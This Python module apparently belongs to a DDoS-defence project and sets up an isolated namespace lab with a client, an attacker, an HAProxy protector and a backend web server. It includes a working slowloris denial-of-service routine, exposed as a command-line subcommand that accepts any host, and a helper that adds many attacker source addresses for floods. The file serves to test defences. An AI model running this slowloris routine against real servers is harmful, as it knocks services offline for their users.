"""The layer-7 lab (issue 29): client and attacker on one segment with the protector, which runs
HAProxy (core/l7) in front of a hidden backend web server.

    client   eth0 198.18.0.10/24 ─┐
    attacker eth0 198.18.0.66/24 ─┤ inet: bridge br0
    prot     xgp0 198.18.0.1/24  ─┘  HAProxy on 198.18.0.1:80
             xgb0 198.18.1.1/24  ─── backend eth0 198.18.1.2/24: `serve` on tcp 80

Built on netns.Lab (every step undone on close). The client and the attacker have no route to
198.18.1.0/24: the backend is reachable through HAProxy only. Also the two bounded programs the
tests run inside the namespaces:

    python -m xdpguard.lab.l7 serve --port 80 --duration 120
    python -m xdpguard.lab.l7 client --url http://198.18.0.1/ --duration 5 [--interval 0.05]

`serve` answers every GET with 200 and "ok xff=<X-Forwarded-For>" (and /healthz) and every POST
once its whole body is read, threaded (--workers: a fixed number at a time), and exits after
--duration. `client` is a browser-like client: a new connection per request, a
cookie jar, redirects followed; it prints one JSON line of counts.
"""

from __future__ import annotations

import argparse
import http.cookiejar
import ipaddress
import json
import socket
import sys
import threading
import time
import urllib.error
import urllib.request
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

CLIENT4, ATTACKER4, PROT4 = "198.18.0.10", "198.18.0.66", "198.18.0.1"
PROT_BACK4, BACKEND4 = "198.18.1.1", "198.18.1.2"
HTTP_PORT = 80


@dataclass(frozen=True)
class L7Lab:
    client: str
    attacker: str
    prot: str
    backend: str
    backend_proc: object


BACKEND_RATE = "2mbit"  # a small real server's uplink, as topology.shape_backend
PAGE_BYTES = 4096  # what the backend answers (a small page)


# One source's requests, sent in turn to each target: a new connection each, `gap` s apart, with
# the cookie when one is given. `python -c ALTERNATING_GET SRC GAP PATH COOKIE TARGET...` prints the
# statuses (0: no answer) as a JSON list (scripts/l7_peers.py, tests/integration/test_l7_peers.py).
ALTERNATING_GET = r"""
import http.client, json, sys, time
src, gap, path, cookie, targets = sys.argv[1], float(sys.argv[2]), sys.argv[3], sys.argv[4], sys.argv[5:]
headers = {"Connection": "close", **({"Cookie": cookie} if cookie else {})}
out = []
for dst in targets:
    c = http.client.HTTPConnection(dst, 80, timeout=3, source_address=(src, 0))
    try:
        c.request("GET", path, headers=headers)
        out.append(c.getresponse().status)
    except OSError:
        out.append(0)
    finally:
        c.close()
    time.sleep(gap)
print(json.dumps(out))
"""


def build(lab, serve_s: float = 300.0, shape: str | None = None, page_bytes: int = 64, workers: int = 0) -> L7Lab:
    """The namespaces, links, addresses and the backend server, in `lab` (a netns.Lab). With
    `shape` (e.g. BACKEND_RATE) the backend's uplink is a token bucket of that rate (tbf, 20 ms
    of queue), and it answers pages of `page_bytes`: a small real server, which a flood can fill.
    With `workers` it serves that many requests at a time (a fixed pool, which slow requests fill)."""
    inet, client, attacker, prot, backend = (lab.netns(r) for r in ("l7inet", "l7cli", "l7atk", "l7prot", "l7back"))
    lab.run(inet, "ip", "link", "add", "br0", "type", "bridge")
    lab.run(inet, "ip", "link", "set", "br0", "up")
    for ns, port, ifname in ((client, "b-cli", "eth0"), (attacker, "b-atk", "eth0"), (prot, "b-prot", "xgp0")):
        lab.veth(inet, port, ns, ifname)
        lab.run(inet, "ip", "link", "set", port, "master", "br0")
    lab.veth(prot, "xgb0", backend, "eth0")
    lab.addr(client, "eth0", f"{CLIENT4}/24")
    lab.addr(attacker, "eth0", f"{ATTACKER4}/24")
    lab.addr(prot, "xgp0", f"{PROT4}/24")
    lab.addr(prot, "xgb0", f"{PROT_BACK4}/24")
    lab.addr(backend, "eth0", f"{BACKEND4}/24")
    if shape:
        lab.run(
            backend,
            "tc",
            "qdisc",
            "replace",
            "dev",
            "eth0",
            "root",
            "tbf",
            "rate",
            shape,
            "burst",
            "16kb",
            "latency",
            "20ms",
        )
    proc = lab.popen(
        backend,
        sys.executable,
        "-m",
        "xdpguard.lab.l7",
        "serve",
        "--port",
        str(HTTP_PORT),
        "--duration",
        str(serve_s),
        "--page-bytes",
        str(page_bytes),
        "--workers",
        str(workers),
    )
    wait = (
        "import socket,time\nend=time.monotonic()+10\nwhile True:\n try:\n"
        f"  socket.create_connection(({BACKEND4!r},{HTTP_PORT}),0.5).close();break\n"
        " except OSError:\n  assert time.monotonic()<end\n  time.sleep(0.1)\n"
    )
    lab.run(prot, sys.executable, "-c", wait, timeout=20)
    return L7Lab(client, attacker, prot, backend, proc)


BOTS4 = "198.18.16.0/22"  # the multi-source flood's addresses (scripts/l7flood.py), on the attacker


def add_sources(lab, t: L7Lab, count: int, prefix: str = BOTS4) -> list[str]:
    """Put the first `count` addresses of `prefix` on the attacker's loopback and route the
    prefix to it from the protector: `count` real sources that complete handshakes (the
    namespaces, and these with them, go with the lab)."""
    addrs = [str(a) for a, _ in zip(ipaddress.ip_network(prefix).hosts(), range(count))]
    if len(addrs) < count:
        raise ValueError(f"{prefix} holds fewer than {count} addresses")
    lab.run(t.attacker, "ip", "link", "set", "lo", "up")
    lab.run(t.attacker, "ip", "-batch", "-", input="".join(f"address add {a}/32 dev lo\n" for a in addrs))
    lab.run(t.prot, "ip", "route", "replace", prefix, "via", ATTACKER4)
    return addrs


def plain_config(run_dir: str, listen: str = PROT4, backend: str = f"{BACKEND4}:{HTTP_PORT}") -> str:
    """HAProxy as a plain reverse proxy (no defence at all): the "without limits" comparison."""
    return (
        f"global\n    master-worker\n    stats socket {run_dir}/admin.sock mode 600 level admin expose-fd listeners\n"
        "    maxconn 4096\n    hard-stop-after 30s\n\ndefaults\n    mode http\n    timeout connect 5s\n"
        "    timeout client 30s\n    timeout server 30s\n\n"
        f"frontend plain_fe\n    bind ipv4@{listen}:{HTTP_PORT}\n    default_backend plain_be\n\n"
        f"backend plain_be\n    option forwardfor\n    server s0 {backend}\n"
    )


# ---- the backend ----


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    page_bytes = 64

    work_s = 0.0  # the time a worker spends on each request (a page being made)

    def do_GET(self) -> None:  # noqa: N802 (http.server's name)
        if self.work_s:
            time.sleep(self.work_s)
        body = f"ok path={self.path} xff={self.headers.get('X-Forwarded-For', '-')}\n".encode()
        body += b"." * max(0, self.page_bytes - len(body) - 1) + (b"\n" if self.page_bytes > len(body) else b"")
        self._answer(body)

    def _answer(self, body: bytes) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/plain")
        self.send_header("Content-Length", str(len(body)))
        if self.server.workers is not None:  # a fixed pool: no worker waits on an idle keep-alive
            self.send_header("Connection", "close")
            self.close_connection = True
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:  # noqa: N802 (a form handler: reads the whole body, then answers)
        try:
            n = min(int(self.headers.get("Content-Length", "0") or 0), 1 << 20)
        except ValueError:
            n = 0
        got = len(self.rfile.read(n)) if n > 0 else 0
        body = f"ok posted {got} xff={self.headers.get('X-Forwarded-For', '-')}\n".encode()
        self._answer(body)

    def log_message(self, *args) -> None:
        pass


class _Server(ThreadingHTTPServer):
    allow_reuse_address = True
    daemon_threads = True
    request_queue_size = 1024
    workers: threading.BoundedSemaphore | None = None  # a small server: this many requests at a time

    def process_request(self, request, client_address) -> None:
        if self.workers is not None:
            self.workers.acquire()  # the accept loop waits for a free worker, as a fixed pool does
        super().process_request(request, client_address)

    def process_request_thread(self, request, client_address) -> None:
        try:
            super().process_request_thread(request, client_address)
        finally:
            if self.workers is not None:
                self.workers.release()

    def handle_error(self, request, client_address) -> None:
        pass  # a peer that resets (health checks, a flood) is not news


class _Server6(_Server):
    address_family = socket.AF_INET6  # bound to '::': v4 and v6 (bindv6only 0, the default)


def serve(
    port: int, duration: float, page_bytes: int = 64, workers: int = 0, work_ms: int = 0, bind: str = "0.0.0.0"
) -> int:
    """With `workers` and `work_ms`, a small real server: that many requests at a time, each
    taking that long (at most workers × 1000 / work_ms pages a second)."""
    _Handler.page_bytes = page_bytes
    _Handler.work_s = work_ms / 1000.0
    _Handler.timeout = 60  # a worker waits at most this long for each read of a request
    srv = (_Server6 if ":" in bind else _Server)((bind, port), _Handler)
    srv.workers = threading.BoundedSemaphore(workers) if workers > 0 else None
    threading.Timer(duration, srv.shutdown).start()
    srv.serve_forever()
    return 0


# ---- the browser-like client ----


def client(url: str, duration: float, interval: float, timeout: float, host: str | None) -> dict:
    jar = http.cookiejar.CookieJar()
    opener = urllib.request.build_opener(urllib.request.HTTPCookieProcessor(jar))
    counts = {"ok": 0, "failed": 0, "status": {}, "errors": {}, "last_body": ""}
    end = time.monotonic() + duration
    while time.monotonic() < end:
        t0 = time.monotonic()
        req = urllib.request.Request(url, headers={"Host": host} if host else {})
        try:
            with opener.open(req, timeout=timeout) as r:
                body = r.read(1 << 20).decode(errors="replace")
                counts["ok" if r.status == 200 and body.startswith("ok ") else "failed"] += 1
                counts["status"][str(r.status)] = counts["status"].get(str(r.status), 0) + 1
                counts["last_body"] = body.splitlines()[0] if body else ""
        except urllib.error.HTTPError as exc:
            counts["failed"] += 1
            counts["status"][str(exc.code)] = counts["status"].get(str(exc.code), 0) + 1
        except (OSError, urllib.error.URLError) as exc:
            counts["failed"] += 1
            name = type(getattr(exc, "reason", exc)).__name__
            counts["errors"][name] = counts["errors"].get(name, 0) + 1
        time.sleep(max(0.0, interval - (time.monotonic() - t0)))
    counts["cookies"] = [c.name for c in jar]
    return counts


# ---- slowloris ----


def slowloris(host: str, port: int, conns: int, duration: float, interval: float) -> dict:
    """Hold `conns` connections open, each sending an unfinished request one header line every
    `interval` s, for `duration` s; a connection the server closes is opened again. Counts what
    the server did: closed (timed out) connections, refused/reset connects."""
    import selectors
    import socket

    sel = selectors.DefaultSelector()
    counts = {"opened": 0, "closed_by_server": 0, "connect_failed": 0, "max_open": 0}
    socks: set = set()

    def open_one() -> None:
        try:
            c = socket.create_connection((host, port), timeout=1.0)
            c.sendall(f"GET /?slow HTTP/1.1\r\nHost: {host}\r\n".encode())
            c.setblocking(False)
            sel.register(c, selectors.EVENT_READ)
            socks.add(c)
            counts["opened"] += 1
        except OSError:
            counts["connect_failed"] += 1

    end = time.monotonic() + duration
    next_tick = 0.0
    while time.monotonic() < end:
        if time.monotonic() >= next_tick:  # once per interval: a header line each, then refill
            next_tick = time.monotonic() + interval
            for c in list(socks):
                try:
                    c.send(b"X-a: b\r\n")
                except OSError:
                    pass
            while len(socks) < conns and time.monotonic() < end:
                before = counts["connect_failed"]
                open_one()
                if counts["connect_failed"] > before:
                    break  # refused: try again on the next tick
            counts["max_open"] = max(counts["max_open"], len(socks))
        for key, _ in sel.select(timeout=0.1):
            c = key.fileobj
            try:
                data = c.recv(4096)
            except OSError:
                data = b""
            if not data:  # the server closed it (or answered 408 and closed)
                sel.unregister(c)
                socks.discard(c)
                c.close()
                counts["closed_by_server"] += 1
    for c in socks:
        c.close()
    return counts


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m xdpguard.lab.l7")
    sub = ap.add_subparsers(dest="cmd", required=True)
    s = sub.add_parser("serve")
    s.add_argument("--port", type=int, default=HTTP_PORT)
    s.add_argument("--duration", type=float, default=120.0)
    s.add_argument("--page-bytes", type=int, default=64)
    s.add_argument("--workers", type=int, default=0, help="requests served at a time (0: no bound)")
    s.add_argument("--work-ms", type=int, default=0, help="milliseconds a worker spends on each GET")
    s.add_argument("--bind", default="0.0.0.0", help="address to bind ('::': v4 and v6)")
    c = sub.add_parser("client")
    c.add_argument("--url", required=True)
    c.add_argument("--duration", type=float, default=5.0)
    c.add_argument("--interval", type=float, default=0.05)
    c.add_argument("--timeout", type=float, default=2.0)
    c.add_argument("--host")
    w = sub.add_parser("slowloris")
    w.add_argument("--host", required=True)
    w.add_argument("--port", type=int, default=HTTP_PORT)
    w.add_argument("--conns", type=int, default=150)
    w.add_argument("--duration", type=float, default=10.0)
    w.add_argument("--interval", type=float, default=1.0)
    a = ap.parse_args(argv)
    if a.cmd == "slowloris":
        print(json.dumps(slowloris(a.host, a.port, min(a.conns, 1000), min(a.duration, 120.0), a.interval)), flush=True)
        return 0
    if a.cmd == "serve":
        return serve(
            a.port,
            min(a.duration, 86400.0),
            max(0, min(a.page_bytes, 1 << 20)),
            max(0, min(a.workers, 4096)),
            max(0, min(a.work_ms, 10_000)),
            a.bind,
        )
    print(json.dumps(client(a.url, min(a.duration, 600.0), a.interval, a.timeout, a.host)), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
